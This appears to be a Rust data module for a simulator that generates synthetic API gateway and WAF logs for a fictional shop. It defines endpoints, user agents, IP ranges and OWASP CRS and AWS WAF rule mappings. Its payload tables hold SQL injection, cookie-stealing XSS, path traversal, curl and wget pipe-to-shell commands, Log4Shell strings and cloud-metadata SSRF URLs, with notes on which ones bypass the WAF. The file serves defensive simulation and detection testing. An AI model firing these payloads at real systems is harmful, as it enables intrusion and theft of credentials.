//! The simulated world's fixed facts: the shop's REST API, user agents, names, search
//! terms, WAF rules and attack payloads.
//!
//! The API is a small online shop ("Shopfront") with a public v1 API used by the web app,
//! a v2 API used by the mobile app and partners, an admin area, and a deprecated v1
//! endpoint old app versions still call. Sizes and latencies are medians of log-normal
//! distributions, chosen so listings are tens of kilobytes, single objects a few, and
//! login and checkout are slow (password hashing, payment).

use crate::event::WafRule;

/// Host of the public API (web app, mobile app, attackers).
pub(crate) const API_HOST: &str = "api.shopfront.example";
/// Host partners use.
pub(crate) const PARTNER_HOST: &str = "partner-api.shopfront.example";
/// Host internal services use (through the mesh gateway).
pub(crate) const INTERNAL_HOST: &str = "api.internal.shopfront.example";
/// The web app's origin, for referrers.
pub(crate) const WEB_ORIGIN: &str = "https://www.shopfront.example";
/// The CDN product images come from (legitimate `url=` values of the image proxy).
pub(crate) const CDN_HOST: &str = "cdn.shopfront.example";

/// One API endpoint: what the gateway's route table and the upstream look like.
#[derive(Debug)]
pub(crate) struct Endpoint {
    pub method: &'static str,
    /// Route template; `{id}` is replaced by a number.
    pub route: &'static str,
    /// Route name (Kong/Envoy), an identifier.
    pub name: &'static str,
    /// Upstream service; empty when the gateway answers itself.
    pub service: &'static str,
    /// Median response body on success, bytes.
    pub bytes: f64,
    /// Log-normal shape of the body size.
    pub bytes_sigma: f64,
    /// Median upstream latency, ms.
    pub latency_ms: f64,
    /// Browsers revalidate it and may get 304.
    pub cacheable: bool,
}

macro_rules! endpoints {
    ($($id:ident = $m:literal $route:literal $name:literal $svc:literal $bytes:literal $sigma:literal $lat:literal $cache:literal;)*) => {
        /// Endpoint ids; index into [`ENDPOINTS`].
        #[derive(Debug, Clone, Copy, PartialEq, Eq)]
        pub(crate) enum Ep { $($id),* }
        /// The route table.
        pub(crate) static ENDPOINTS: &[Endpoint] = &[
            $(Endpoint { method: $m, route: $route, name: $name, service: $svc, bytes: $bytes, bytes_sigma: $sigma, latency_ms: $lat, cacheable: $cache }),*
        ];
    };
}

endpoints! {
    Categories = "GET" "/api/v1/categories" "categories-list" "catalog" 3200.0 0.1 6.0 true;
    Products = "GET" "/api/v1/products" "products-list" "catalog" 18000.0 0.4 28.0 true;
    Product = "GET" "/api/v1/products/{id}" "product-get" "catalog" 4200.0 0.35 9.0 true;
    ProductReviews = "GET" "/api/v1/products/{id}/reviews" "product-reviews-list" "catalog" 6500.0 0.6 18.0 true;
    ReviewCreate = "POST" "/api/v1/products/{id}/reviews" "product-review-create" "catalog" 380.0 0.2 35.0 false;
    ProductUpdate = "PUT" "/api/v1/products/{id}" "product-update" "catalog" 4200.0 0.2 30.0 false;
    Search = "GET" "/api/v1/search" "search" "search" 14000.0 0.5 55.0 false;
    ImageProxy = "GET" "/api/v1/images/proxy" "image-proxy" "media" 48000.0 0.8 30.0 true;
    ProductsV2 = "GET" "/api/v2/products" "products-list-v2" "catalog" 15000.0 0.4 25.0 false;
    ProductV2 = "GET" "/api/v2/products/{id}" "product-get-v2" "catalog" 3800.0 0.35 8.0 false;
    SearchV2 = "GET" "/api/v2/search" "search-v2" "search" 12000.0 0.5 50.0 false;
    Recommendations = "GET" "/api/v2/recommendations" "recommendations" "recs" 9000.0 0.3 40.0 false;
    Login = "POST" "/api/v1/auth/login" "auth-login" "auth" 850.0 0.1 95.0 false;
    Refresh = "POST" "/api/v1/auth/refresh" "auth-refresh" "auth" 780.0 0.1 12.0 false;
    Logout = "POST" "/api/v1/auth/logout" "auth-logout" "auth" 0.0 0.0 6.0 false;
    Signup = "POST" "/api/v1/auth/signup" "auth-signup" "auth" 420.0 0.1 140.0 false;
    User = "GET" "/api/v1/users/{id}" "user-get" "users" 1400.0 0.3 7.0 false;
    UserUpdate = "PATCH" "/api/v1/users/{id}" "user-update" "users" 1400.0 0.2 18.0 false;
    UserDelete = "DELETE" "/api/v1/users/{id}" "user-delete" "users" 0.0 0.0 25.0 false;
    UserAddresses = "GET" "/api/v1/users/{id}/addresses" "user-addresses-list" "users" 1100.0 0.5 8.0 false;
    UserExport = "GET" "/api/v1/users/{id}/export" "user-export" "users" 250000.0 1.0 800.0 false;
    UsersList = "GET" "/api/v1/users" "users-list" "users" 22000.0 0.4 60.0 false;
    UserV2 = "GET" "/api/v2/users/{id}" "user-get-v2" "users" 1600.0 0.3 7.0 false;
    Account = "GET" "/api/v1/account" "account-legacy" "legacy" 2900.0 0.3 22.0 false;
    Orders = "GET" "/api/v1/orders" "orders-list" "orders" 7000.0 0.6 25.0 false;
    Order = "GET" "/api/v1/orders/{id}" "order-get" "orders" 2600.0 0.4 11.0 false;
    OrderItems = "GET" "/api/v1/orders/{id}/items" "order-items-list" "orders" 3400.0 0.6 13.0 false;
    OrderCancel = "POST" "/api/v1/orders/{id}/cancel" "order-cancel" "orders" 600.0 0.2 40.0 false;
    OrdersV2 = "GET" "/api/v2/orders" "orders-list-v2" "orders" 6500.0 0.6 24.0 false;
    OrderV2 = "GET" "/api/v2/orders/{id}" "order-get-v2" "orders" 2400.0 0.4 10.0 false;
    Download = "GET" "/api/v1/downloads" "downloads" "documents" 85000.0 0.5 60.0 false;
    Cart = "GET" "/api/v1/cart" "cart-get" "cart" 1800.0 0.6 9.0 false;
    CartAdd = "POST" "/api/v1/cart/items" "cart-item-add" "cart" 1900.0 0.5 21.0 false;
    CartRemove = "DELETE" "/api/v1/cart/items/{id}" "cart-item-remove" "cart" 0.0 0.0 15.0 false;
    Coupon = "POST" "/api/v1/cart/coupon" "cart-coupon-apply" "cart" 310.0 0.2 16.0 false;
    Checkout = "POST" "/api/v1/checkout" "checkout" "checkout" 1200.0 0.3 320.0 false;
    PaymentMethods = "GET" "/api/v1/payment-methods" "payment-methods-list" "payments" 700.0 0.3 14.0 false;
    Notifications = "GET" "/api/v1/notifications" "notifications-list" "notify" 2100.0 0.8 8.0 false;
    Webhooks = "POST" "/api/v1/webhooks" "webhook-create" "partners" 350.0 0.2 30.0 false;
    PartnerOrders = "GET" "/api/v2/partners/{id}/orders" "partner-orders-list" "partners" 42000.0 0.5 70.0 false;
    Shipment = "PUT" "/api/v2/shipments/{id}" "shipment-update" "partners" 450.0 0.2 22.0 false;
    Inventory = "GET" "/api/v2/inventory/{id}" "inventory-get" "inventory" 380.0 0.2 3.0 false;
    InventoryBulk = "POST" "/api/v2/inventory/bulk" "inventory-bulk-update" "inventory" 900.0 0.3 120.0 false;
    AdminUsers = "GET" "/api/v1/admin/users" "admin-users-list" "admin" 24000.0 0.4 65.0 false;
    AdminOrders = "GET" "/api/v1/admin/orders" "admin-orders-list" "admin" 31000.0 0.4 80.0 false;
    AdminRoles = "POST" "/api/v1/admin/users/{id}/roles" "admin-user-roles" "admin" 300.0 0.2 30.0 false;
    AdminAudit = "GET" "/api/v1/admin/audit-log" "admin-audit-log" "admin" 40000.0 0.5 110.0 false;
    AdminReports = "GET" "/api/v1/admin/reports/sales" "admin-sales-report" "admin" 60000.0 0.5 450.0 false;
    Health = "GET" "/healthz" "healthz" "" 15.0 0.0 0.2 false;
    Ready = "GET" "/readyz" "readyz" "" 2.0 0.0 0.2 false;
    LegacyProxy = "GET" "/{proxy+}" "legacy-proxy" "legacy" 3000.0 0.8 35.0 false;
    NoRoute = "GET" "" "" "" 0.0 0.0 0.0 false;
}

impl Ep {
    /// The endpoint's table entry.
    #[inline]
    pub(crate) fn info(self) -> &'static Endpoint {
        &ENDPOINTS[self as usize]
    }
}

/// Desktop and mobile browser user agents (2024 releases) with rough market weights.
pub(crate) static BROWSER_UAS: &[(&str, u32)] = &[
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
        30,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
        12,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
        10,
    ),
    (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
        9,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80",
        7,
    ),
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
        6,
    ),
    (
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        2,
    ),
    (
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
        2,
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
        12,
    ),
    (
        "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
        9,
    ),
    (
        "Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36",
        3,
    ),
    (
        "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
        2,
    ),
];

/// The shop's own app, current and old versions. Old versions (3.x) still call the
/// deprecated `/api/v1/account`.
pub(crate) static APP_UAS: &[&str] = &[
    "Shopfront/5.14.2 (com.shopfront.app; build:5142; iOS 17.4.1) Alamofire/5.9.1",
    "Shopfront/5.14.2 (com.shopfront.app; build:5142; iOS 16.7.7) Alamofire/5.9.1",
    "Shopfront/5.13.0 (com.shopfront.app; build:5130; iOS 17.3.1) Alamofire/5.8.1",
    "Shopfront/5.14.2 (Android 14; Pixel 8 Pro; build 51420) okhttp/4.12.0",
    "Shopfront/5.14.2 (Android 13; SM-A546B; build 51420) okhttp/4.12.0",
    "Shopfront/5.13.0 (Android 12; moto g(60); build 51300) okhttp/4.11.0",
    "Shopfront/5.14.1 (Android 14; SM-S918B; build 51410) okhttp/4.12.0",
];
pub(crate) static OLD_APP_UAS: &[&str] = &[
    "Shopfront/3.9.7 (Android 9; SM-J600F; build 39700) okhttp/3.12.12",
    "Shopfront/3.8.1 (com.shopfront.app; build:3810; iOS 12.5.7) Alamofire/4.9.1",
];

/// HTTP clients partners integrate with.
pub(crate) static PARTNER_UAS: &[&str] = &[
    "python-requests/2.31.0",
    "Apache-HttpClient/4.5.14 (Java/17.0.10)",
    "Go-http-client/2.0",
    "axios/1.6.8",
    "okhttp/4.12.0",
    "Ruby",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Microsoft.NET/8.0 HttpClient",
];

/// Fictional partner companies (well-worn placeholder names).
pub(crate) static PARTNER_NAMES: &[&str] = &[
    "northwind",
    "acme-logistics",
    "globex",
    "initech",
    "umbrella-retail",
    "stark-supply",
    "wayne-freight",
    "tyrell-parts",
    "cyberdyne-ship",
    "hooli-market",
    "vandelay-import",
    "soylent-foods",
    "wonka-sweets",
    "oceanic-air",
    "monarch-sell",
    "blue-sun",
    "duff-dist",
    "krusty-co",
    "gringotts-pay",
    "pied-piper",
];

/// Internal services: name, user agent, relative request weight.
pub(crate) static SERVICES: &[(&str, &str, u32)] = &[
    (
        "svc-notifications",
        "svc-notifications/3.2.0 (go1.22.2)",
        16,
    ),
    ("svc-inventory", "svc-inventory/1.18.4 (Java/21.0.2)", 22),
    (
        "svc-search-indexer",
        "svc-search-indexer/0.9.12 python-httpx/0.27.0",
        14,
    ),
    ("svc-fraud", "svc-fraud/2.8.0 (go1.22.2)", 18),
    (
        "svc-recommender",
        "svc-recommender/4.1.3 python-httpx/0.27.0",
        16,
    ),
    ("svc-billing", "svc-billing/7.0.1 (Java/17.0.10)", 8),
    ("svc-analytics", "Go-http-client/1.1", 6),
];

/// Health checkers: user agent, path endpoint, host header, source IPs.
pub(crate) const ELB_UA: &str = "ELB-HealthChecker/2.0";
pub(crate) const KUBE_UA: &str = "kube-probe/1.29";

pub(crate) static CATEGORIES: &[&str] = &[
    "electronics",
    "computers",
    "phones",
    "home-garden",
    "kitchen",
    "books",
    "toys",
    "sports",
    "fashion",
    "beauty",
    "grocery",
    "pet-supplies",
    "automotive",
    "office",
    "baby",
];

pub(crate) static SEARCH_TERMS: &[&str] = &[
    "laptop",
    "usb c cable",
    "running shoes",
    "coffee grinder",
    "headphones",
    "4k monitor",
    "standing desk",
    "lego",
    "air fryer",
    "e-reader",
    "yoga mat",
    "phone case",
    "rain jacket",
    "dog food",
    "gift card",
    "sneakers size 42",
    "mechanical keyboard",
    "baby stroller",
    "tent",
    "ssd 2tb",
    "desk lamp",
    "wireless mouse",
    "protein powder",
    "board games",
    "camera lens 50mm",
    "t-shirt",
    "water bottle",
    "kids bike",
    "garden hose",
    "o'reilly",
    "espresso machine",
    "winter boots",
    "bluetooth speaker",
    "office chair",
    "hdmi 2.1",
];

pub(crate) static FIRST_NAMES: &[&str] = &[
    "maria", "james", "anna", "john", "sofia", "li", "mohammed", "emma", "lucas", "olivia", "noah",
    "mia", "liam", "ava", "elena", "david", "sara", "daniel", "laura", "ahmed", "chen", "julia",
    "marco", "nina", "omar", "paula", "raj", "yuki", "igor", "fatima",
];
pub(crate) static LAST_NAMES: &[&str] = &[
    "smith", "garcia", "mueller", "rossi", "kim", "nguyen", "silva", "kowalski", "jensen",
    "dubois", "tanaka", "novak", "jones", "brown", "martin", "lopez", "wang", "patel", "khan",
    "ivanova", "hansen", "weber", "costa", "murphy", "fischer",
];
pub(crate) static MAIL_DOMAINS: &[&str] = &[
    "gmail.com",
    "yahoo.com",
    "hotmail.com",
    "outlook.com",
    "icloud.com",
    "gmx.de",
    "web.de",
    "aol.com",
    "proton.me",
    "mail.ru",
    "yandex.ru",
    "orange.fr",
];

/// First octets of consumer ISP address space, with the country the WAF logs for them.
pub(crate) static RESIDENTIAL_NETS: &[(u8, &str)] = &[
    (24, "US"),
    (67, "US"),
    (71, "US"),
    (73, "US"),
    (98, "US"),
    (174, "US"),
    (76, "US"),
    (81, "GB"),
    (86, "GB"),
    (92, "GB"),
    (2, "FR"),
    (90, "FR"),
    (109, "FR"),
    (84, "DE"),
    (87, "DE"),
    (93, "DE"),
    (79, "IT"),
    (151, "IT"),
    (83, "ES"),
    (88, "ES"),
    (77, "NL"),
    (94, "SE"),
    (89, "PL"),
    (177, "BR"),
    (187, "BR"),
    (49, "IN"),
    (110, "JP"),
    (121, "KR"),
];
/// First octets of mobile-carrier egress ranges.
pub(crate) static CARRIER_NETS: &[(u8, &str)] = &[
    (172, "US"),
    (166, "US"),
    (107, "US"),
    (31, "GB"),
    (80, "DE"),
    (37, "FR"),
    (46, "IT"),
];
/// First octets of cloud and VPS providers (partners' jobs, attack infrastructure).
pub(crate) static DATACENTER_NETS: &[(u8, &str)] = &[
    (3, "US"),
    (18, "US"),
    (34, "US"),
    (35, "US"),
    (52, "US"),
    (54, "IE"),
    (13, "US"),
    (45, "NL"),
    (104, "US"),
    (138, "DE"),
    (139, "SG"),
    (159, "US"),
    (161, "US"),
    (167, "DE"),
    (178, "RU"),
    (185, "NL"),
    (188, "RO"),
    (193, "UA"),
    (194, "CN"),
    (195, "BG"),
];

/// The country AWS WAF would log for an address (by first octet in the tables above).
pub(crate) fn country_of(ip: std::net::Ipv4Addr) -> &'static str {
    let first = ip.octets()[0];
    if first == 10 {
        return "-";
    }
    RESIDENTIAL_NETS
        .iter()
        .chain(CARRIER_NETS)
        .chain(DATACENTER_NETS)
        .find(|(o, _)| *o == first)
        .map_or("US", |(_, c)| c)
}

// ---------------------------------------------------------------------------------------
// WAF rules (OWASP CRS 4.x ids and AWS managed rule groups).

const CRS_SQLI_FILE: &str = "REQUEST-942-APPLICATION-ATTACK-SQLI.conf";
const CRS_XSS_FILE: &str = "REQUEST-941-APPLICATION-ATTACK-XSS.conf";
const CRS_LFI_FILE: &str = "REQUEST-930-APPLICATION-ATTACK-LFI.conf";
const CRS_RCE_FILE: &str = "REQUEST-932-APPLICATION-ATTACK-RCE.conf";
const CRS_GENERIC_FILE: &str = "REQUEST-934-APPLICATION-ATTACK-GENERIC.conf";
const CRS_JAVA_FILE: &str = "REQUEST-944-APPLICATION-ATTACK-JAVA.conf";
const CRS_SCANNER_FILE: &str = "REQUEST-913-SCANNER-DETECTION.conf";
const CRS_PROTOCOL_FILE: &str = "REQUEST-920-PROTOCOL-ENFORCEMENT.conf";

const SQLI_GROUP: &str = "AWSManagedRulesSQLiRuleSet";
const SQLI_ACL: &str = "AWS-AWSManagedRulesSQLiRuleSet";
const COMMON_GROUP: &str = "AWSManagedRulesCommonRuleSet";
const COMMON_ACL: &str = "AWS-AWSManagedRulesCommonRuleSet";
const BAD_INPUTS_GROUP: &str = "AWSManagedRulesKnownBadInputsRuleSet";
const BAD_INPUTS_ACL: &str = "AWS-AWSManagedRulesKnownBadInputsRuleSet";
const UNIX_GROUP: &str = "AWSManagedRulesUnixRuleSet";
const UNIX_ACL: &str = "AWS-AWSManagedRulesUnixRuleSet";

const fn rule(
    crs_id: &'static str,
    crs_msg: &'static str,
    crs_file: &'static str,
    crs_tag: &'static str,
    aws_group: &'static str,
    aws_acl_rule: &'static str,
    aws_rule: &'static str,
) -> WafRule {
    WafRule {
        crs_id,
        crs_msg,
        crs_file,
        crs_tag,
        aws_group,
        aws_acl_rule,
        aws_rule,
    }
}

pub(crate) const SQLI_ARGS: WafRule = rule(
    "942100",
    "SQL Injection Attack Detected via libinjection",
    CRS_SQLI_FILE,
    "attack-sqli",
    SQLI_GROUP,
    SQLI_ACL,
    "SQLi_QUERYARGUMENTS",
);
pub(crate) const SQLI_BODY: WafRule = WafRule {
    aws_rule: "SQLi_BODY",
    ..SQLI_ARGS
};
pub(crate) const XSS_ARGS: WafRule = rule(
    "941100",
    "XSS Attack Detected via libinjection",
    CRS_XSS_FILE,
    "attack-xss",
    COMMON_GROUP,
    COMMON_ACL,
    "CrossSiteScripting_QUERYARGUMENTS",
);
pub(crate) const XSS_BODY: WafRule = WafRule {
    aws_rule: "CrossSiteScripting_BODY",
    ..XSS_ARGS
};
pub(crate) const LFI_ARGS: WafRule = rule(
    "930110",
    "Path Traversal Attack (/../) or (/.../)",
    CRS_LFI_FILE,
    "attack-lfi",
    COMMON_GROUP,
    COMMON_ACL,
    "GenericLFI_QUERYARGUMENTS",
);
pub(crate) const LFI_BODY: WafRule = WafRule {
    aws_rule: "GenericLFI_BODY",
    ..LFI_ARGS
};
pub(crate) const OS_FILE: WafRule = rule(
    "930120",
    "OS File Access Attempt",
    CRS_LFI_FILE,
    "attack-lfi",
    "",
    "",
    "",
);
pub(crate) const RCE_ARGS: WafRule = rule(
    "932160",
    "Remote Command Execution: Unix Shell Code Found",
    CRS_RCE_FILE,
    "attack-rce",
    UNIX_GROUP,
    UNIX_ACL,
    "UNIXShellCommandsVariables_QUERYARGUMENTS",
);
pub(crate) const RCE_BODY: WafRule = WafRule {
    aws_rule: "UNIXShellCommandsVariables_BODY",
    ..RCE_ARGS
};
pub(crate) const LOG4J_HEADER: WafRule = rule(
    "944150",
    "Potential Remote Command Execution: Log4j / Log4shell",
    CRS_JAVA_FILE,
    "attack-rce",
    BAD_INPUTS_GROUP,
    BAD_INPUTS_ACL,
    "Log4JRCE_HEADER",
);
pub(crate) const SSRF_METADATA_ARGS: WafRule = rule(
    "934110",
    "Possible Server Side Request Forgery (SSRF) Attack: Cloud provider metadata URL in Parameter",
    CRS_GENERIC_FILE,
    "attack-ssrf",
    COMMON_GROUP,
    COMMON_ACL,
    "EC2MetaDataSSRF_QUERYARGUMENTS",
);
pub(crate) const SSRF_METADATA_BODY: WafRule = WafRule {
    aws_rule: "EC2MetaDataSSRF_BODY",
    ..SSRF_METADATA_ARGS
};
pub(crate) const SSRF_IP_ARGS: WafRule = rule(
    "934120",
    "Possible Server Side Request Forgery (SSRF) Attack: URL Parameter using IP Address",
    CRS_GENERIC_FILE,
    "attack-ssrf",
    COMMON_GROUP,
    COMMON_ACL,
    "GenericRFI_QUERYARGUMENTS",
);
pub(crate) const SSRF_IP_BODY: WafRule = WafRule {
    aws_rule: "GenericRFI_BODY",
    ..SSRF_IP_ARGS
};
pub(crate) const SCANNER_UA: WafRule = rule(
    "913100",
    "Found User-Agent associated with security scanner",
    CRS_SCANNER_FILE,
    "attack-reputation-scanner",
    COMMON_GROUP,
    COMMON_ACL,
    "UserAgent_BadBots_HEADER",
);
/// Health checks address the load balancer by IP: a well-known CRS false positive,
/// usually run in detection-only mode.
pub(crate) const HOST_IS_IP: WafRule = rule(
    "920350",
    "Host header is a numeric IP address",
    CRS_PROTOCOL_FILE,
    "attack-protocol",
    "",
    "",
    "",
);
/// Partners' bulk uploads exceed the common rule set's 8 KB body limit: the classic AWS
/// WAF false positive, left in count mode.
pub(crate) const BODY_SIZE: WafRule = rule(
    "",
    "",
    "",
    "",
    COMMON_GROUP,
    COMMON_ACL,
    "SizeRestrictions_BODY",
);

/// The managed rule groups of the simulated web ACL, in evaluation order (AWS WAF logs
/// list each one evaluated).
pub(crate) static AWS_GROUPS: &[&str] = &[COMMON_GROUP, BAD_INPUTS_GROUP, SQLI_GROUP, UNIX_GROUP];

// ---------------------------------------------------------------------------------------
// Attack payloads.

/// Where an injection payload is sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Slot {
    /// A query parameter value (percent-encoded unless `pre_encoded`).
    Query,
    /// A JSON request body field.
    Body,
    /// The `User-Agent` header.
    UserAgent,
    /// The request path.
    Path,
}

/// One attack payload.
#[derive(Debug)]
pub(crate) struct Payload {
    /// The payload text; for [`Slot::UserAgent`] the whole header.
    pub text: &'static str,
    pub slot: Slot,
    /// Already percent-encoded as the tool sends it; written verbatim.
    pub pre_encoded: bool,
    /// Rules that match it; empty when it slips past the WAF.
    pub rules: &'static [WafRule],
}

const fn q(text: &'static str, rules: &'static [WafRule]) -> Payload {
    Payload {
        text,
        slot: Slot::Query,
        pre_encoded: false,
        rules,
    }
}
const fn qe(text: &'static str, rules: &'static [WafRule]) -> Payload {
    Payload {
        text,
        slot: Slot::Query,
        pre_encoded: true,
        rules,
    }
}
const fn b(text: &'static str, rules: &'static [WafRule]) -> Payload {
    Payload {
        text,
        slot: Slot::Body,
        pre_encoded: false,
        rules,
    }
}

/// Injection payloads: SQLi, XSS, path traversal, command injection, Log4Shell, NoSQL.
/// Body payloads contain quotes, backslashes and control characters on purpose: they
/// exercise every renderer's escaping.
pub(crate) static INJECTIONS: &[Payload] = &[
    q("' OR '1'='1", &[SQLI_ARGS]),
    q("1' OR 1=1-- -", &[SQLI_ARGS]),
    q(
        "1 UNION SELECT username,password_hash,email FROM users--",
        &[SQLI_ARGS],
    ),
    q("1; DROP TABLE orders;--", &[SQLI_ARGS]),
    q("' AND SLEEP(5)-- ", &[SQLI_ARGS]),
    q(
        "1' AND extractvalue(1,concat(0x7e,(SELECT version())))-- ",
        &[SQLI_ARGS],
    ),
    qe(
        "1%27%20AND%201%3D1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-",
        &[SQLI_ARGS],
    ),
    b("admin'--", &[SQLI_BODY]),
    b("x\" OR \"1\"=\"1", &[SQLI_BODY]),
    // JSON-operator SQL: the WAF-bypass class published in 2022; no rule matches.
    b("1 OR JSON_EXTRACT('{\"a\":1}','$.a')=1", &[]),
    q("<script>alert(document.cookie)</script>", &[XSS_ARGS]),
    q("\"><img src=x onerror=alert(1)>", &[XSS_ARGS]),
    q(
        "<svg/onload=fetch('//evil.example/c?'+document.cookie)>",
        &[XSS_ARGS],
    ),
    b(
        "<script>new Image().src=\"http://198.51.100.23/c?\"+document.cookie</script>",
        &[XSS_BODY],
    ),
    b(
        "Great product!\r\n<iframe src=\"javascript:alert(`xss`)\"></iframe>",
        &[XSS_BODY],
    ),
    q("../../../../etc/passwd", &[LFI_ARGS, OS_FILE]),
    qe("..%2f..%2f..%2f..%2fetc%2fpasswd", &[LFI_ARGS, OS_FILE]),
    q("....//....//....//etc/shadow", &[LFI_ARGS, OS_FILE]),
    q("..\\..\\..\\windows\\win.ini", &[LFI_ARGS]),
    // Double encoding: decoded once by the WAF, twice by the application.
    qe("%252e%252e%252f%252e%252e%252fetc%252fpasswd", &[]),
    b("../../../../etc/passwd\u{0}.png", &[LFI_BODY, OS_FILE]),
    q("; cat /etc/passwd", &[RCE_ARGS, OS_FILE]),
    q("| id", &[RCE_ARGS]),
    q("$(curl -s http://203.0.113.50/x.sh | sh)", &[RCE_ARGS]),
    q("`wget http://198.51.100.23/b -O- | sh`", &[RCE_ARGS]),
    b("report.pdf\n/bin/sh -c 'id;uname -a'", &[RCE_BODY]),
    b("{\"$ne\": null}", &[]),
    Payload {
        text: "${jndi:ldap://198.51.100.77:1389/Exploit}",
        slot: Slot::UserAgent,
        pre_encoded: false,
        rules: &[LOG4J_HEADER],
    },
    Payload {
        text: "Mozilla/5.0 ${${lower:j}ndi:${lower:l}dap://198.51.100.77/a}",
        slot: Slot::UserAgent,
        pre_encoded: false,
        rules: &[LOG4J_HEADER],
    },
    Payload {
        text: "/api/v1/static/../../../../etc/passwd",
        slot: Slot::Path,
        pre_encoded: true,
        rules: &[LFI_ARGS, OS_FILE],
    },
];

/// SSRF targets for `url=` / `callback=` parameters and webhook bodies.
pub(crate) struct SsrfTarget {
    pub url: &'static str,
    /// Rules when sent in a query parameter / in a body; empty when the WAF misses it.
    pub query_rules: &'static [WafRule],
    pub body_rules: &'static [WafRule],
}

const fn ssrf(
    url: &'static str,
    query_rules: &'static [WafRule],
    body_rules: &'static [WafRule],
) -> SsrfTarget {
    SsrfTarget {
        url,
        query_rules,
        body_rules,
    }
}

pub(crate) static SSRF_TARGETS: &[SsrfTarget] = &[
    ssrf(
        "http://169.254.169.254/latest/meta-data/",
        &[SSRF_METADATA_ARGS],
        &[SSRF_METADATA_BODY],
    ),
    ssrf(
        "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
        &[SSRF_METADATA_ARGS],
        &[SSRF_METADATA_BODY],
    ),
    ssrf(
        "http://169.254.169.254/latest/user-data",
        &[SSRF_METADATA_ARGS],
        &[SSRF_METADATA_BODY],
    ),
    ssrf(
        "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
        &[SSRF_METADATA_ARGS],
        &[SSRF_METADATA_BODY],
    ),
    ssrf(
        "http://100.100.100.200/latest/meta-data/",
        &[SSRF_IP_ARGS],
        &[SSRF_IP_BODY],
    ),
    ssrf(
        "http://10.0.0.1:8080/actuator/env",
        &[SSRF_IP_ARGS],
        &[SSRF_IP_BODY],
    ),
    ssrf(
        "http://10.20.4.17:9200/_cat/indices",
        &[SSRF_IP_ARGS],
        &[SSRF_IP_BODY],
    ),
    ssrf(
        "http://172.17.0.1:2375/containers/json",
        &[SSRF_IP_ARGS],
        &[SSRF_IP_BODY],
    ),
    ssrf("http://127.0.0.1:6379/", &[SSRF_IP_ARGS], &[SSRF_IP_BODY]),
    ssrf("http://192.168.1.1/admin", &[SSRF_IP_ARGS], &[SSRF_IP_BODY]),
    ssrf("http://localhost:22/", &[], &[]),
    ssrf("http://[::1]:8500/v1/agent/self", &[], &[]),
    ssrf("file:///etc/passwd", &[OS_FILE], &[OS_FILE]),
    ssrf(
        "gopher://127.0.0.1:6379/_FLUSHALL",
        &[SSRF_IP_ARGS],
        &[SSRF_IP_BODY],
    ),
    ssrf(
        "dict://127.0.0.1:11211/stats",
        &[SSRF_IP_ARGS],
        &[SSRF_IP_BODY],
    ),
    // Encodings of 169.254.169.254 and DNS tricks that slip past pattern rules.
    ssrf("http://2852039166/latest/meta-data/", &[], &[]),
    ssrf("http://0xa9fea9fe/latest/meta-data/", &[], &[]),
    ssrf("http://169.254.169.254.nip.io/latest/meta-data/", &[], &[]),
    ssrf("http://[::ffff:a9fe:a9fe]/latest/meta-data/", &[], &[]),
    ssrf("http://k3x9q2.oast.example/ping", &[], &[]),
];

/// Paths of undocumented, internal and retired endpoints attackers look for. The bool
/// says whether the legacy catch-all route proxies it (and it answers), else 404.
pub(crate) static SHADOW_PATHS: &[(&str, bool)] = &[
    ("/api/v0/users/{id}", true),
    ("/api/v0/orders/{id}", true),
    ("/api/v0/users", true),
    ("/internal/users/export", true),
    ("/internal/metrics", true),
    ("/internal/debug/vars", true),
    ("/internal/config", false),
    ("/api/beta/orders/{id}", true),
    ("/api/beta/graphql", false),
    ("/api/v1/legacy/export", true),
    ("/v1/users/{id}", true),
    ("/api/internal/admin", false),
    ("/actuator/env", false),
    ("/actuator/heapdump", false),
    ("/swagger.json", true),
    ("/openapi.yaml", false),
    ("/api-docs", true),
    ("/graphql", false),
    ("/.env", false),
    ("/server-status", false),
    ("/api/v1/account", true),
];

/// Tools attackers and scrapers identify as (or fail to hide).
pub(crate) static TOOL_UAS: &[&str] = &[
    "python-requests/2.31.0",
    "curl/8.5.0",
    "Go-http-client/1.1",
    "PostmanRuntime/7.37.3",
    "Wget/1.21.4",
];
pub(crate) static SCANNER_UAS: &[&str] = &[
    "sqlmap/1.8#stable (https://sqlmap.org)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
];
